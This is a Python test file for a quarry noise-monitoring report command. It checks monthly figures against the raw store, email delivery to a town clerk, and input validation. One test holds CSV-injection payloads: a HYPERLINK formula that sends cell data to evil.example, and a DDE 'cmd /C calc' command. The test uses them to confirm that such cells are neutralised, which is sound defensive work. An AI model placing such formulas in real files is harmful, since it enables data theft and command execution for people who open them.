"""`minewatch report` as a user runs it (a real process) on a generated month of a store, its
numbers checked against the store queried independently here, and its scheduled send (`--send`,
what deploy/systemd/minewatch-report.timer runs) to a real SMTP server (aiosmtpd)."""

from __future__ import annotations

import csv
import email
import email.policy
import hashlib
import io
import json
import math
import random
import re
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, time, timedelta
from decimal import ROUND_HALF_UP, Decimal
from email.message import EmailMessage
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import SMTP as SMTPServer
from aiosmtpd.smtp import Envelope, Session

from monitor.complaints.book import ComplaintBook
from monitor.complaints.check import Place, check_complaint
from monitor.config import load_config
from monitor.journal.chain_kinds import KINDS, digest_of
from monitor.journal.store import Store
from monitor.wire.codec import encode
from rules.model import Blast, SoundLevels
from rules.profile import load_profile
from tests.support.cli import run_minewatch
from tests.support.paths import REPO
from tests.support.servers import free_port

SITE = "quarry"
TZ = ZoneInfo("America/Chicago")
MONTH = (2026, 11)  # crosses the end of daylight time (2026-11-01): a 25-hour first day
STEP_S = 60  # one reading a minute keeps a month's store small; the report counts by expected period

CONFIG = """
[broker]
url = "mqtt://127.0.0.1:9"
[storage]
path = "{store}"
[[sites]]
id = "quarry"
name = "Generated quarry"
timezone = "America/Chicago"
latitude = 45.27
longitude = -91.62
[[sites.sensors]]
id = "n1"
kind = "sound"
expected_period_s = 60
plan = [0, 0]
[[sites.sensors]]
id = "n2"
kind = "sound"
expected_period_s = 60
plan = [400, 0]
[[recipients]]
name = "town-clerk"
role = "town"
[[recipients.channels]]
type = "email"
to = ["clerk@town.example"]
smtp_host = "127.0.0.1"
smtp_port = {smtp_port}
smtp_starttls = false
sender = "minewatch@quarry.example"
"""


@dataclass
class Mailbox:
    messages: list[EmailMessage] = field(default_factory=list)

    async def handle_DATA(self, server: SMTPServer, session: Session, envelope: Envelope) -> str:
        content = envelope.content if isinstance(envelope.content, bytes) else str(envelope.content).encode()
        parsed = email.message_from_bytes(content, policy=email.policy.default)
        assert isinstance(parsed, EmailMessage)
        self.messages.append(parsed)
        return "250 OK"


@pytest.fixture
def smtp() -> Iterator[tuple[Mailbox, int]]:
    """aiosmtpd on a free port, plain SMTP (the channel says smtp_starttls = false)."""
    box, port = Mailbox(), free_port()
    controller = Controller(box, hostname="127.0.0.1", port=port)
    controller.start()
    yield box, port
    controller.stop()


def local(day: date, hour: int = 0) -> datetime:
    return datetime.combine(day, time(hour), TZ).astimezone(UTC)


_START = local(date(*MONTH, 1))
JUDGED_CALLS = (
    (_START - timedelta(hours=3), _START + timedelta(days=7)),
    (_START + timedelta(days=7), local(date(*MONTH, 15))),
    (local(date(*MONTH, 15)) + timedelta(hours=30), _START + timedelta(days=31)),
)


def generate_month(root: Path, smtp_port: int) -> Path:
    """A month of minute readings at two meters (louder by day), a blast and two complaints."""
    store_path = root / "store.db"
    config = root / "minewatch.toml"
    config.write_text(CONFIG.format(store=store_path, smtp_port=smtp_port))
    store = Store(store_path)
    rng = random.Random(28)
    start, end = local(date(*MONTH, 1)), local(date(MONTH[0], MONTH[1] + 1, 1))
    ts = start - timedelta(hours=3)  # data either side of the month: the report must leave it out
    now = end + timedelta(hours=1)
    while ts < end + timedelta(hours=3):
        hour = ts.astimezone(TZ).hour
        base = 58.0 if 7 <= hour < 19 else 41.0
        batch = []
        for sensor in ("n1", "n2"):
            if sensor == "n2" and start + timedelta(days=9) <= ts < start + timedelta(days=10):
                continue  # a day offline at n2
            laeq = round(base + rng.gauss(0, 4) + (3 if sensor == "n2" else 0), 2)
            batch.append(
                (
                    SoundLevels(SITE, sensor, ts, float(STEP_S), laeq, laeq + rng.uniform(1, 9), laeq + 20),
                    "gen",
                    False,
                )
            )
        with store.batch():
            store.append_sounds(batch, now)
        ts += timedelta(seconds=STEP_S)
    # Judged windows as the daemon records them minute by minute (Store.record_judged): two that
    # meet (coalesced into one), then a judging gap of 30 hours from the 15th, 00:00.
    with store.batch():
        for a, b in JUDGED_CALLS:
            store.record_judged(SITE, a, b)
    blast = Blast(SITE, "B-1112", local(date(*MONTH, 12), 11), overpressure_db=118.5)
    with store.batch():
        store.append_event(blast, json.loads(encode(blast)[1]), now)
    site = load_config(config).sites[0]
    profile = load_profile(site.profile, site.agreement)
    book = ComplaintBook(store)
    for when, what in ((local(date(*MONTH, 12), 11), "blast"), (local(date(*MONTH, 20), 3), "noise")):
        correlation = check_complaint(
            store.conn, site, profile, what, when, when, Place(plan=(390.0, 10.0)), now
        )
        with store.batch():
            book.submit(
                SITE, what, when, when, "", (390.0, 10.0), "heard it", {"phone": "555-0100"}, correlation, now
            )
    store.close()
    return config


def run(*argv: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "monitor.cli", "report", *argv],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=300,
    )


def half_up(value: float) -> str:
    return f"{Decimal(repr(value)).quantize(Decimal('0.1'), rounding=ROUND_HALF_UP):f}"


def independent_day(conn: sqlite3.Connection, sensor: str, day: date) -> dict[str, str] | None:
    """A day's figures straight from the sound rows: SQL over the raw seconds, no histogram."""
    lo, hi = (int(local(d).timestamp() * 1_000_000) for d in (day, day + timedelta(days=1)))
    where = "site = ? AND sensor = ? AND ts_us >= ? AND ts_us < ?"
    n, laeq, lafmax = conn.execute(
        f"SELECT COUNT(*), 10 * log10(avg(power(10, LAeq / 10.0))), MAX(LAFmax) FROM sound WHERE {where}",
        (SITE, sensor, lo, hi),
    ).fetchone()
    if not n:
        return None
    out = {"readings": str(n), "LAeq": half_up(laeq), "LAFmax": half_up(lafmax)}
    for x in (10, 50, 90):
        (value,) = conn.execute(
            f"SELECT round(LAeq, 1) FROM sound WHERE {where} ORDER BY LAeq DESC LIMIT 1 OFFSET ?",
            (SITE, sensor, lo, hi, math.ceil(x * n / 100) - 1),
        ).fetchone()
        out[f"L{x}"] = half_up(value)
    return out


def test_a_generated_month_matches_the_store_and_is_sent_to_the_town(
    tmp_path: Path, smtp: tuple[Mailbox, int]
) -> None:
    box, port = smtp
    config = generate_month(tmp_path, port)
    out = tmp_path / "reports"
    out.mkdir()
    result = run(
        "--config",
        str(config),
        "--site",
        SITE,
        "--month",
        "2026-11",
        "--out",
        str(out),
        "--send",
        cwd=tmp_path,
    )
    assert result.returncode == 0, result.stderr
    assert "Sent report" in result.stdout and "town-clerk" in result.stdout
    pdf, text = out / "quarry-2026-11.pdf", (out / "quarry-2026-11.csv").read_text()
    assert pdf.read_bytes().startswith(b"%PDF")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert all(r["source"] for r in rows)  # every number states its source

    daily: dict[tuple[str, str], dict[str, str]] = {}
    for r in rows:
        if r["section"] == "daily":
            day, sensor = r["row"].split()
            if r["column"] != "sensor":
                daily.setdefault((day, sensor), {})[r["column"]] = r["value"]
    conn = sqlite3.connect(tmp_path / "store.db")
    days = [date(*MONTH, d) for d in range(1, 31)]
    assert {d for d, _ in daily} == {d.isoformat() for d in days}
    for day in days:
        for sensor in ("n1", "n2"):
            expected = independent_day(conn, sensor, day)
            got = daily[(day.isoformat(), sensor)]
            if expected is None:
                assert (sensor, day, got["readings"], got["LAeq"]) == ("n2", date(*MONTH, 10), "0", "")
                continue
            assert got == expected, (day, sensor)
    assert daily[("2026-11-01", "n1")]["readings"] == str(25 * 60)  # the day daylight time ends

    def value(section: str, row: str, column: str) -> str:
        return next(
            r["value"] for r in rows if (r["section"], r["row"], r["column"]) == (section, row, column)
        )

    (n1,) = conn.execute(
        "SELECT COUNT(*) FROM sound WHERE sensor = 'n1' AND ts_us >= ? AND ts_us < ?",
        (int(local(days[0]).timestamp() * 1e6), int(local(date(2026, 12, 1)).timestamp() * 1e6)),
    ).fetchone()
    assert value("completeness", "n1", "received") == str(n1) == str(30 * 1440 + 60)
    assert value("completeness", "n2", "received share") == f"{(n1 - 1440) / n1 * 100:.1f} %"

    # Judged: the rows inside the judged windows, counted here in Python over the raw rows
    # against the windows as the test wrote them; n1 has a day and a quarter of rows in the gap.
    assert conn.execute("SELECT COUNT(*) FROM judged").fetchone()[0] == 2  # the two that met are one
    lo, hi = int(local(days[0]).timestamp() * 1e6), int(local(date(2026, 12, 1)).timestamp() * 1e6)
    windows = [(int(a.timestamp() * 1e6), int(b.timestamp() * 1e6)) for a, b in JUDGED_CALLS]
    for sensor, expected_rows in (("n1", 30 * 1440 + 60), ("n2", 30 * 1440 + 60 - 1440)):
        stamps = [t for (t,) in conn.execute("SELECT ts_us FROM sound WHERE sensor = ?", (sensor,))]
        judged = sum(1 for t in stamps if lo <= t < hi and any(a <= t < b for a, b in windows))
        assert judged == expected_rows - 30 * 60  # every received row but the gap's 30 hours
        assert value("completeness", sensor, "judged") == str(judged)
        assert value("completeness", sensor, "judged share") == f"{judged / (30 * 1440 + 60) * 100:.1f} %"
        assert value("completeness", sensor, "judging gaps") == "1"
        assert value("completeness", sensor, "not judged s") == str(30 * 3600)
    assert value("blasts", "B-1112", "time") == "2026-11-12 11:00:00 CST"
    assert value("blasts", "B-1112", "overpressure dB") == "118.5"
    complaints = [r for r in rows if r["section"] == "complaints" and r["column"] == "the record"]
    assert len(complaints) == 2
    assert any(r["value"].startswith("corroborated by the record: blast B-1112") for r in complaints)
    assert any(r["value"].startswith("not corroborated: all monitors at or below") for r in complaints)
    seq, head = conn.execute(
        "SELECT seq, head FROM chain WHERE site = ? ORDER BY seq DESC LIMIT 1", (SITE,)
    ).fetchone()

    # Sent: one e-mail with the PDF, and a chained report record naming the files' digests.
    assert len(box.messages) == 1
    message = box.messages[0]
    assert message["To"] == "clerk@town.example" and "Compliance report" in message["Subject"]
    (attachment,) = [p for p in message.iter_attachments()]
    assert attachment.get_filename() == "quarry-2026-11.pdf"
    assert attachment.get_content() == pdf.read_bytes()
    conn.row_factory = sqlite3.Row
    report = conn.execute("SELECT * FROM reports").fetchone()
    assert report["pdf_sha256"] == hashlib.sha256(pdf.read_bytes()).hexdigest()
    assert report["csv_sha256"] == hashlib.sha256(text.encode()).hexdigest()
    assert report["chain_seq"] < seq  # the report came after the figures it was computed from
    assert f"chain entry {report['chain_seq']}" in value("report", "Computed from", "value")
    entry = conn.execute(
        "SELECT digest FROM chain WHERE kind = 'report' AND key = ?", (report["id"],)
    ).fetchone()
    assert entry[0] == digest_of(KINDS["report"].record(report))
    assert conn.execute("SELECT status FROM deliveries").fetchone()[0] == "delivered"
    assert head


def test_days_spans_and_mistakes(tmp_path: Path, smtp: tuple[Mailbox, int]) -> None:
    config = generate_month(tmp_path, smtp[1])
    day = run(
        "--config", str(config), "--site", SITE, "--day", "2026-11-12", "--out", str(tmp_path), cwd=tmp_path
    )
    assert day.returncode == 0, day.stderr
    assert (tmp_path / "quarry-2026-11-12.pdf").exists()
    span = run(
        "--config",
        str(config),
        "--site",
        SITE,
        "--from",
        "2026-11-10",
        "--to",
        "2026-11-11",
        "--out",
        str(tmp_path),
        cwd=tmp_path,
    )
    assert span.returncode == 0, span.stderr
    text = (tmp_path / "quarry-2026-11-10_2026-11-11.csv").read_text()
    assert "2026-11-10 n1" in text and "2026-11-12" not in text.split("daily,")[-1]
    # The report's own "To verify" command, as a reader would type it: it exports the whole span.
    said = next(row[3] for row in csv.reader(io.StringIO(text)) if row[1:2] == ["To verify"])
    command = said.split(", then ")[0].split()
    assert command[:2] == ["minewatch", "evidence"] and command[command.index("--to") + 1] == "2026-11-12"
    command[command.index("--config") + 1] = str(config)
    command[command.index("--out") + 1] = str(tmp_path / "bundle.zip")
    exported = subprocess.run(
        [sys.executable, "-m", "monitor.cli", *command[1:]],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert exported.returncode == 0, exported.stderr
    assert run_minewatch("verify", tmp_path / "bundle.zip").returncode == 0
    again = run(
        "--config", str(config), "--site", SITE, "--day", "2026-11-12", "--out", str(tmp_path), cwd=tmp_path
    )
    assert again.returncode == 2 and "--force" in again.stderr and len(again.stderr.splitlines()) == 1
    # --send with no channel that carries a report (the Town reads …/alerts): refused, nothing made.
    mqtt_only = tmp_path / "mqtt-only.toml"
    text = config.read_text()
    mqtt_only.write_text(
        text[: text.index("[[recipients.channels]]")] + '[[recipients.channels]]\ntype = "mqtt"\n'
    )
    unsent = run(
        "--config", str(mqtt_only), "--day", "2026-11-13", "--send", "--out", str(tmp_path), cwd=tmp_path
    )
    assert unsent.returncode == 2 and unsent.stderr.startswith(
        "minewatch report: --send: no Town recipient of quarry has a channel that carries a report"
    ), unsent.stderr
    assert not (tmp_path / "quarry-2026-11-13.pdf").exists()
    for argv, said in (
        (["--month", "2026-13"], "--month: expected a month like 2026-11"),
        (["--from", "2026-11-10", "--to", "2026-11-01"], "is before --from"),
        (["--from", "2026-11-10"], "--from needs --to"),
        (["--day", "2026-11-31"], "--day: 2026-11-31 is no day: November 2026 has 30 days"),
        (["--day", "2099-12-05"], "2099-12-05 has not begun yet at quarry (today is "),
        (["--month", "2099-12"], "2099-12-01 has not begun yet at quarry"),
    ):
        bad = run("--config", str(config), "--site", SITE, *argv, "--out", str(tmp_path), cwd=tmp_path)
        assert bad.returncode == 2 and said in bad.stderr and "Traceback" not in bad.stderr, bad.stderr


# Text the operator writes that a spreadsheet would run (CSV injection, CWE-1236): a link that
# sends the sheet's cells away, a DDE command, and a formula after a tab.
HOSTILE_ID = '=HYPERLINK("https://evil.example/?"&B2,"B-7")'
HOSTILE_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_operator_text_in_the_csv_runs_in_no_spreadsheet(tmp_path: Path) -> None:
    config = generate_month(tmp_path, free_port())
    store = Store(tmp_path / "store.db")
    blast = Blast(SITE, HOSTILE_ID, local(date(*MONTH, 13), 16), HOSTILE_REASON, overpressure_db=110.0)
    with store.batch():
        store.append_event(blast, json.loads(encode(blast)[1]), local(date(*MONTH, 28)))
    store.close()
    made = run(
        "--config", str(config), "--site", SITE, "--day", "2026-11-13", "--out", str(tmp_path), cwd=tmp_path
    )
    assert made.returncode == 0, made.stderr
    path = tmp_path / "quarry-2026-11-13.csv"
    rows = list(csv.reader(io.StringIO(path.read_text())))
    blast_rows = [r for r in rows if r[0] == "blasts"]
    assert blast_rows and {r[1] for r in blast_rows} == {"'" + HOSTILE_ID}
    assert blast_rows[1][:4] == ["blasts", "'" + HOSTILE_ID, "safety reason", "'" + HOSTILE_REASON]
    assert blast_rows[3][2:4] == ["overpressure dB", "110.0"]  # a number stays a number
    for row in rows:
        for cell in row:
            assert cell[:1] not in set("=+-@\t\r\n") or re.fullmatch(r"[+-]?\d+(\.\d*)?", cell), row
    # The file as written is the file recorded: verify finds it.
    checked = run_minewatch("verify", path, "--config", config)
    assert checked.returncode == 0 and checked.stdout.count(": OK: ") == 3, checked.stdout + checked.stderr


def test_a_day_the_meter_was_overloaded_reports_its_levels_as_lower_bounds(tmp_path: Path) -> None:
    """The report counted a clipped second's level (it reads low) like any other: the day's
    LAeq and percentiles looked like measurements; they are said as "at least", with the days."""
    config = generate_month(tmp_path, free_port())
    store = Store(tmp_path / "store.db")
    clipped = local(date(*MONTH, 13), 12) + timedelta(seconds=30)  # between the minute readings
    with store.batch():
        store.append_sounds(
            [(SoundLevels(SITE, "n1", clipped, 2.0, 79.0, 80.0, 99.0, overload=True), "gen", False)],
            local(date(*MONTH, 28)),
        )
    store.close()
    made = run(
        "--config",
        str(config),
        "--site",
        SITE,
        "--from",
        "2026-11-13",
        "--to",
        "2026-11-14",
        "--out",
        str(tmp_path),
        cwd=tmp_path,
    )
    assert made.returncode == 0, made.stderr
    rows = list(csv.reader(io.StringIO(next(tmp_path.glob("quarry-*.csv")).read_text())))
    daily = {(r[1], r[2]): r[3] for r in rows if r[0] == "daily"}
    assert daily[("2026-11-13 n1", "LAeq")].startswith("at least ")
    assert daily[("2026-11-13 n1", "L90")].startswith("at least ")
    assert not daily[("2026-11-13 n2", "LAeq")].startswith("at least")  # another meter
    assert not daily[("2026-11-14 n1", "LAeq")].startswith("at least")  # another day
    [note] = [r[3] for r in rows if r[0] == "daily" and r[2] == "note"]
    assert "2026-11-13 n1 (2 s)" in note and "lower bounds" in note
